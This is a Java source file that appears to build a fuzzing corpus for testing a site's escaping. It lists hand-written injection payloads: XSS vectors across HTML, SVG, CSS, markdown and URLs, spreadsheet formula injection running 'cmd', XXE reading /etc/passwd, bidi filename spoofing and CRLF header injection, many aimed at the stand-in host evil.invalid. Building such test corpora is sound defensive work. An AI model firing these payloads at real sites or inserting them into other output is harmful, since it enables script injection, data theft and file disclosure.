package dev.almanac.site;

import java.util.ArrayList;
import java.util.List;

/**
 * What a hostile dump may say: seeds, written by hand for the places that a page, a feed, a message
 * or a sheet has, each behind the characters that would lead out of such a place. Run as a script,
 * each says {@code alert}; as a request, it goes to {@code evil.invalid}.
 */
final class Payloads {
  private static final String RUN = "alert(1)";
  private static final String HOST = "evil.invalid";

  /**
   * A hostile text.
   *
   * @param family what it is aimed at
   */
  record Payload(String family, String text) {}

  private static final List<String> WAYS_OUT =
      List.of(
          "", "\">", "'>", "</bdi></a>", "</title>", "--></script>", "</textarea></style>", "]]>");

  private static final List<String> ELEMENTS =
      List.of(
          "<script>" + RUN + "</script>",
          "<ScRiPt src=//" + HOST + "/a.js></ScRiPt>",
          "<img src=x onerror=" + RUN + ">",
          "<img src=//" + HOST + "/a.png>",
          "<svg/onload=" + RUN + ">",
          "<iframe srcdoc='<script>" + RUN + "</script>'></iframe>",
          "<iframe src=javascript:" + RUN + "></iframe>",
          "<object data=//" + HOST + "/a.swf></object>",
          "<embed src=//" + HOST + "/a.swf>",
          "<form action=//" + HOST + "/><button autofocus onfocus=" + RUN + ">Go</button></form>",
          "<input autofocus onfocus=" + RUN + ">",
          "<details open ontoggle=" + RUN + ">x</details>",
          "<video><source onerror=" + RUN + "></video>",
          "<body onload=" + RUN + ">",
          "<marquee onstart=" + RUN + ">x</marquee>",
          "<base href=//" + HOST + "/>",
          "<meta http-equiv=refresh content='0;url=//" + HOST + "/'>",
          "<link rel=stylesheet href=//" + HOST + "/a.css>",
          "<style>*{display:none}</style>",
          "<style>@import url(//" + HOST + "/a.css);</style>",
          "<div style='position:fixed;inset:0;background:red'>x</div>",
          "<a href=javascript:" + RUN + ">x</a>",
          "<math><mtext><script>" + RUN + "</script></mtext></math>",
          "<template><script>" + RUN + "</script></template>",
          "<noscript><p title='</noscript><img src=x onerror=" + RUN + ">'>",
          "<xmp><script>" + RUN + "</script></xmp>",
          "<audio src=//" + HOST + "/a.ogg autoplay></audio>",
          "<table background=//" + HOST + "/a.png><td>x</table>");

  private static final List<String> ATTRIBUTES =
      List.of(
          "x\" onmouseover=\"" + RUN + "\" y=\"",
          "x' onmouseover='" + RUN + "' y='",
          "x\" style=\"position:fixed;inset:0\" y=\"",
          "x\" autofocus onfocus=\"" + RUN,
          "x onclick=" + RUN + " ",
          "x`onclick=" + RUN + "`",
          "\u2028\" onload=\"" + RUN,
          "&quot; onload=&quot;" + RUN,
          "&#34;&#62;&#60;script&#62;" + RUN + "&#60;/script&#62;",
          "%22%3E%3Cscript%3E" + RUN + "%3C/script%3E");

  private static final List<String> SVG =
      List.of(
          "<svg><script>" + RUN + "</script></svg>",
          "<svg><animate onbegin=" + RUN + " attributeName=x dur=1s>",
          "<svg><use href='data:image/svg+xml,<svg id=x><script>" + RUN + "</script></svg>#x'/>",
          "<svg><foreignObject><iframe src=//" + HOST + "></iframe></foreignObject></svg>",
          "<svg><image href=//" + HOST + "/a.png></svg>",
          "<svg><set attributeName=onmouseover to=" + RUN + "></svg>",
          "</svg><script>" + RUN + "</script>",
          "</text></svg><img src=x onerror=" + RUN + ">");

  private static final List<String> CSS =
      List.of(
          "}*{display:none}",
          "*/}body{background:url(//" + HOST + "/a.png)}",
          "url(javascript:" + RUN + ")",
          "expression(" + RUN + ")",
          "@import '//" + HOST + "/a.css';",
          "</style><script>" + RUN + "</script>",
          "position:fixed;top:0;left:0;width:100vw;height:100vh",
          "\\3c script\\3e " + RUN);

  private static final List<String> SCRIPTS =
      List.of(
          "');" + RUN + "//",
          "\");" + RUN + "//",
          "\\\");" + RUN + "//",
          "</script><script>" + RUN + "//",
          "<!--<script>" + RUN + "//",
          "\u2028" + RUN + "//",
          "${" + RUN + "}",
          "`${" + RUN + "}`",
          "{{constructor.constructor('" + RUN + "')()}}",
          "@if(true)" + RUN + "@endif",
          "!{var x = 1;}",
          "__proto__",
          "constructor",
          "*/" + RUN + "/*");

  private static final List<String> MARKDOWN =
      List.of(
          "[x](javascript:" + RUN + ")",
          "[x](<javascript:" + RUN + ">)",
          "![x](https://" + HOST + "/a.png)",
          "![x](x \"onerror=" + RUN + "\")",
          "[x]: javascript:" + RUN,
          "<javascript:" + RUN + ">",
          "](javascript:" + RUN + ")",
          ")](javascript:" + RUN + ")",
          "\\](javascript:" + RUN + ")",
          "``` <script>" + RUN + "</script> ```",
          "`<img src=x onerror=" + RUN + ">`",
          "# A heading of one's own",
          "- [ ] a list of one's own",
          "| a | table |",
          "--- a rule",
          "> a quotation",
          "1. a number",
          "**bold** _and_ ~~gone~~",
          "&lt;script&gt;" + RUN + "&lt;/script&gt;",
          "*[<img src=x onerror=" + RUN + ">](x)*");

  private static final List<String> BIDI =
      List.of(
          "\u202Egnp.exe",
          "\u202Dover\u202C",
          "\u2066isolate\u2069",
          "\u2067right\u2069 left",
          "\u2068first strong",
          "\u200Fmark\u200E",
          "\u202A\u202B\u202C\u202D\u202E all at once",
          "\u0627\u0644\u0639 <script>" + RUN + "</script>",
          "\u061Cletter mark",
          "x\u202E>tpircs/<" + RUN + ">tpircs<");

  private static final List<String> FORMULAS =
      List.of(
          "=HYPERLINK(\"http://" + HOST + "\",\"x\")",
          "=cmd|'/c calc'!A1",
          "+1+cmd|'/c calc'!A1",
          "-1+cmd|'/c calc'!A1",
          "@SUM(1+1)*cmd|'/c calc'!A1",
          "=IMPORTXML(\"http://" + HOST + "\",\"//a\")",
          "\t=1+1",
          ";=1+1",
          "\"=1+1",
          "%0A=1+1");

  private static final List<String> XML =
      List.of(
          "]]><script>" + RUN + "</script>",
          "<![CDATA[<script>" + RUN + "</script>]]>",
          "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
          "&xxe;",
          "&#0;&#x1F;",
          "<?xml-stylesheet href='//" + HOST + "/a.xsl'?>",
          "<?php " + RUN + " ?>",
          "</title></entry></feed>",
          "</description></item></channel></rss>",
          "<x xmlns:xlink='http://www.w3.org/1999/xlink' xlink:href='//" + HOST + "'/>",
          "\uFFFE\uFFFF nothing",
          "\uD800 half");

  private static final List<String> ADDRESSES =
      List.of(
          "javascript:" + RUN,
          "JaVaScRiPt:" + RUN,
          "java\tscript:" + RUN,
          " javascript:" + RUN,
          "data:text/html,<script>" + RUN + "</script>",
          "vbscript:" + RUN,
          "file:///etc/passwd",
          "blob:https://" + HOST + "/x",
          "//" + HOST + "/x",
          "https://" + HOST + "/\"onclick=\"" + RUN,
          "https://" + HOST + "/'onclick='" + RUN,
          "https://" + HOST + "/<script>" + RUN + "</script>",
          "https://" + HOST + "/)](javascript:" + RUN + ")",
          "https://user:secret@" + HOST + "/",
          "https://" + HOST + "/\u202Egnp.exe",
          "https://" + HOST + "\\@example.org/",
          "http://[::1]:99999/",
          "https:///x",
          "https://" + HOST + "/%00%0d%0aSet-Cookie:x",
          "mailto:a@" + HOST + "?body=<script>" + RUN + "</script>");

  private Payloads() {}

  /** All of them, families one after another. */
  static List<Payload> all() {
    List<Payload> all = new ArrayList<>();
    for (String way : WAYS_OUT) {
      ELEMENTS.forEach(element -> all.add(new Payload("html", way + element)));
    }
    add(all, "attribute", ATTRIBUTES);
    add(all, "svg", SVG);
    add(all, "css", CSS);
    add(all, "script", SCRIPTS);
    add(all, "markdown", MARKDOWN);
    add(all, "bidi", BIDI);
    add(all, "formula", FORMULAS);
    add(all, "xml", XML);
    add(all, "url", ADDRESSES);
    return all;
  }

  private static void add(List<Payload> all, String family, List<String> texts) {
    texts.forEach(text -> all.add(new Payload(family, text)));
  }
}
